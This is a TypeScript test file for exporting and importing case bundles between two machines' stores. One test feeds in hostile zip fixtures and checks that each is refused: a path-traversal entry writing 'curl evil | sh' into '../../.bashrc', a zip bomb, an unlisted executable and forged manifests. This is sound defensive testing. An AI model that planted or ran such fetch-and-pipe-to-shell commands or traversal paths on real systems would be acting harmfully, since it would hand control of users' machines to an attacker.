// Escalation bundles between two data folders through the core's dispatch, as the doors
// call them: a case with notes, a snapshot, a firmware update and attachments exported from
// one machine's store and imported into another's, where it reads back the same and search
// finds it; hostile bundles refused with the second store left exactly as it was.
import { createHash } from 'node:crypto';
import BetterSqlite3 from 'better-sqlite3';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CaseDetail, DiagnosticsReport } from '../../src-main/api/schemas';
import { readBundle } from '../../src-main/bundle/bundle-reader';
import type { Core } from '../../src-main/core/core';
import { CASE_STORE_FILE, openCaseStore } from '../../src-main/store/case-store';
import { jsonEntry, rebuilt, zipOf } from '../helpers/bundle-fixtures';
import { fails, ok, startCore } from '../helpers/core-fixture';
import { makeTempDir } from '../helpers/temp-dir';

const LOG = 'uart: boot\nFATAL: brownout detector tripped at 3.1 V\n';
const PHOTO = Uint8Array.from({ length: 2048 }, (_, i) => (i * 131) % 256);
const IMAGE_SHA = 'e3'.repeat(32);
const DEVICE = { deviceId: 'serial-ttyUSB0', transport: 'serial' as const, path: '/dev/ttyUSB0', profileId: 'sensor-node', identity: { model: 'SN-200', serialNumber: 'SN-7731', firmwareVersion: '1.4.0' } };

let source: ReturnType<typeof makeTempDir>;
let target: ReturnType<typeof makeTempDir>;
let exporter: Core;
let importer: Core;
let caseId: string;

/** A case as an engineer leaves it: opened on a device with a snapshot, notes, two files, a firmware update, resolved. */
function seedCase(dataDir: string): string {
  const store = openCaseStore({ dataDir });
  try {
    const at = '2026-11-20T09:00:00.000Z';
    const snapshot: DiagnosticsReport = {
      deviceId: DEVICE.deviceId, profileId: 'sensor-node', identity: DEVICE.identity, startedAt: at, finishedAt: at,
      readings: [
        { id: 'battery', label: 'Battery', value: 3.1, unit: 'V', status: 'fail', limits: 'fail below 3.3 V', message: 'below 3.3 V', readAt: at },
        { id: 'temp', label: 'Temperature', value: 24, unit: '°C', status: 'ok', limits: null, message: null, readAt: at },
      ],
    };
    const opened = store.cases.open({ title: 'Brownout resets on the quay', device: DEVICE, snapshot, fields: { customer: 'Port of Harwich', tags: ['power'], severity: 'high', symptom: 'resets under load' } });
    store.cases.saveNote({ caseId: opened.id, noteId: '7d9c1a52-6a0e-4c7b-9f44-2f5b1d0e8a11', text: 'Swapped the <b>regulator</b>; brownout gone under a 2 A load.' });
    store.attachments.attach({ caseId: opened.id, fileName: 'uart.log', bytes: new TextEncoder().encode(LOG) });
    store.attachments.attach({ caseId: opened.id, fileName: 'board photo.jpg', bytes: PHOTO });
    const job = store.firmware.start({ device: DEVICE, caseId: opened.id, image: { fileName: 'sensor-1.5.0.bin', sha256: IMAGE_SHA, version: '1.5.0', size: 4096 }, options: { uploadOnly: false, allowDowngrade: false, confirm: 'auto' }, versionBefore: '1.4.0' });
    store.firmware.step(job.id, 'upload', 'done');
    store.firmware.versionAfter(job.id, '1.5.0');
    store.firmware.finish(job.id, 'confirmed', null);
    store.cases.appendEvent({ caseId: opened.id, kind: 'firmware', summary: 'Firmware update confirmed', data: { jobId: job.id, outcome: 'confirmed', versionBefore: '1.4.0', versionAfter: '1.5.0' } });
    store.cases.update({ caseId: opened.id, patch: { status: 'resolved', resolution: 'Regulator replaced, firmware 1.5.0', rootCause: 'Undersized LDO' } });
    return opened.id;
  } finally {
    store.close();
  }
}

function tableCounts(dataDir: string): Record<string, number> {
  const db = new BetterSqlite3(join(dataDir, CASE_STORE_FILE), { readonly: true });
  try {
    const tables = ['cases', 'case_tags', 'case_snapshots', 'notes', 'case_events', 'case_attachments', 'firmware_jobs', 'firmware_job_steps'];
    return Object.fromEntries(tables.map((table) => [table, (db.prepare(`SELECT count(*) AS n FROM ${table}`).get() as { n: number }).n]));
  } finally {
    db.close();
  }
}

function integrity(dataDir: string): string[] {
  const store = openCaseStore({ dataDir });
  try {
    return store.integrityCheck();
  } finally {
    store.close();
  }
}

const base64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');
const sha = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

/** A case without what an import changes by design: the import's own timeline entry and the time of the last change. */
function comparable(detail: CaseDetail) {
  return { ...detail, updatedAt: undefined, timeline: detail.timeline.filter((event) => event.kind !== 'imported') };
}

beforeEach(async () => {
  source = makeTempDir('bundle-source');
  target = makeTempDir('bundle-target');
  caseId = seedCase(source.path);
  exporter = await startCore(source.path);
  importer = await startCore(target.path);
});

afterEach(async () => {
  await exporter.close();
  await importer.close();
  source.remove();
  target.remove();
});

describe('escalation bundles between two machines', () => {
  it('round-trips a whole case, and search finds it on the other machine', async () => {
    const original = await ok(exporter, 'cases.get', { caseId });
    const file = await ok(exporter, 'cases.export', { caseId });
    expect(file.fileName).toBe(`case-brownout-resets-on-the-quay-${caseId.slice(0, 8)}.zip`);
    const zip = Buffer.from(file.contentBase64, 'base64');
    expect(file).toMatchObject({ size: zip.length, sha256: sha(zip) });
    // Exporting again gives the same bytes.
    expect((await ok(exporter, 'cases.export', { caseId })).sha256).toBe(file.sha256);

    const changed: string[] = [];
    importer.events.on('cases.changed', (event) => changed.push(event.caseId));
    const imported = await ok(importer, 'cases.import', { contentBase64: file.contentBase64, fileName: file.fileName });
    expect(imported).toMatchObject({
      case: { id: caseId, title: 'Brownout resets on the quay', status: 'resolved', deviceSerial: 'SN-7731', noteCount: 1 },
      originalCaseId: caseId,
      renumbered: false,
      imported: { notes: 1, snapshots: 1, attachments: 2, firmwareJobs: 1, timelineEntries: original.timeline.length },
    });
    expect(changed).toEqual([caseId]);

    const copy = await ok(importer, 'cases.get', { caseId });
    expect(comparable(copy)).toEqual(comparable(original));
    const importEntry = copy.timeline.at(-1);
    expect(importEntry).toMatchObject({ kind: 'imported', data: { originalCaseId: caseId, bundle: file.fileName } });
    expect(importEntry?.summary).toMatch(new RegExp(`^Imported from bundle ${file.fileName.replace(/\./gu, '\\.')} \\(originally case ${caseId} on machine `, 'u'));
    for (const attachment of original.attachments) {
      const bytes = await ok(importer, 'cases.attachment', { caseId, attachmentId: attachment.id });
      expect(bytes.sha256).toBe(attachment.sha256);
    }

    // Searchable like any other case: a note, a field, an attachment's text.
    for (const [query, field] of [['regulator', 'note'], ['Harwich', 'customer'], ['brownout detector', 'attachment']] as const) {
      const found = await ok(importer, 'cases.search', { query });
      expect(found.hits.map((hit) => hit.caseId), query).toEqual([caseId]);
      expect(found.hits[0]?.matches.map((match) => match.field)).toContain(field);
    }
    expect((await ok(importer, 'cases.deviceHistory', { serial: 'SN-7731' })).map((c) => c.id)).toEqual([caseId]);

    // Exported again from the second machine, the firmware hashes and every snapshot travel on.
    const again = await ok(importer, 'cases.export', { caseId });
    const report = readBundle(Buffer.from(again.contentBase64, 'base64'), { label: 'again.zip' });
    expect(report.bundledCase.firmwareJobs).toMatchObject([{ image: { sha256: IMAGE_SHA, version: '1.5.0' }, versionBefore: '1.4.0', versionAfter: '1.5.0', outcome: 'confirmed' }]);
    expect(report.bundledCase.snapshots).toHaveLength(1);
    expect(integrity(target.path)).toEqual([]);
  });

  it('imports a case already here as a new case that names the original, overwriting nothing', async () => {
    const file = await ok(exporter, 'cases.export', { caseId });
    const first = await ok(importer, 'cases.import', { contentBase64: file.contentBase64, fileName: file.fileName });
    const before = await ok(importer, 'cases.get', { caseId });
    const second = await ok(importer, 'cases.import', { contentBase64: file.contentBase64 });
    expect(second.renumbered).toBe(true);
    expect(second.case.id).not.toBe(first.case.id);
    expect(second.originalCaseId).toBe(caseId);

    expect(await ok(importer, 'cases.get', { caseId })).toEqual(before);
    const copy = await ok(importer, 'cases.get', { caseId: second.case.id });
    expect(copy.notes.map((n) => n.text)).toEqual(before.notes.map((n) => n.text));
    expect(copy.notes[0]?.id).not.toBe(before.notes[0]?.id);
    expect(copy.timeline.at(-1)?.summary).toContain(`originally case ${caseId} on machine`);
    // A timeline entry pointing at an attachment points at the copy's own attachment.
    const attached = copy.timeline.filter((event) => event.kind === 'attachment-added').map((event) => event.data?.attachmentId);
    expect(attached).toEqual(copy.attachments.map((attachment) => attachment.id));
    expect((await ok(importer, 'cases.search', { query: 'regulator' })).total).toBe(2);
    expect(integrity(target.path)).toEqual([]);
  });

  it('refuses hostile bundles with nothing written to the store', async () => {
    const good = Buffer.from((await ok(exporter, 'cases.export', { caseId })).contentBase64, 'base64');
    // Something already in the second store, to see that it stays as it was.
    await ok(importer, 'cases.open', { title: 'Unrelated case', fields: { serialNumber: 'SN-1' } });
    const counts = tableCounts(target.path);
    const hostile: [string, Uint8Array, RegExp][] = [
      ['not a zip', new TextEncoder().encode('hello'), /not a zip|too short/u],
      ['truncated', good.subarray(0, good.length - 200), /cut short|not a zip/u],
      ['traversal', zipOf([['../../.bashrc', new TextEncoder().encode('curl evil | sh')]]), /unsafe name/u],
      ['bomb', zipOf([['attachments/zeros', new Uint8Array(16 * 1024 * 1024)]]), /zip bomb/u],
      ['newer format', rebuilt(good, (_, manifest) => Object.assign(manifest, { formatVersion: 7 })), /bundle format 7/u],
      ['checksum', rebuilt(good, (entries) => entries.set('report.md', new TextEncoder().encode('# forged report\n'))), /fails its checksum|manifest says/u],
      ['unlisted entry', rebuilt(good, (entries) => entries.set('attachments/payload.exe', new Uint8Array([0x4d, 0x5a]))), /not listed in its manifest/u],
      [
        'unknown timeline kind',
        rebuilt(good, (entries) => {
          const caseJson = JSON.parse(new TextDecoder().decode(entries.get('case.json'))) as { timeline: { kind: string }[] };
          caseJson.timeline[0]!.kind = 'from-the-future';
          entries.set('case.json', jsonEntry(caseJson));
        }, { relist: true }),
        /"from-the-future", which this Fieldbench does not know/u,
      ],
    ];
    for (const [what, zip, reason] of hostile) {
      const error = await fails(importer, 'cases.import', { contentBase64: base64(zip), fileName: `${what}.zip` });
      expect(error, what).toMatchObject({ code: 'invalid-request', step: 'import bundle' });
      expect(error.message, what).toMatch(reason);
      expect(error.hint, what).toBeTruthy();
      expect(tableCounts(target.path), what).toEqual(counts);
    }
    expect(integrity(target.path)).toEqual([]);
    expect((await ok(importer, 'cases.search', { query: 'regulator' })).total).toBe(0);
  });

  it('refuses to export a case that does not exist', async () => {
    const error = await fails(exporter, 'cases.export', { caseId: '0b8f3c1e-1111-4222-8333-944455556666' });
    expect(error).toMatchObject({ code: 'not-found' });
  });
});
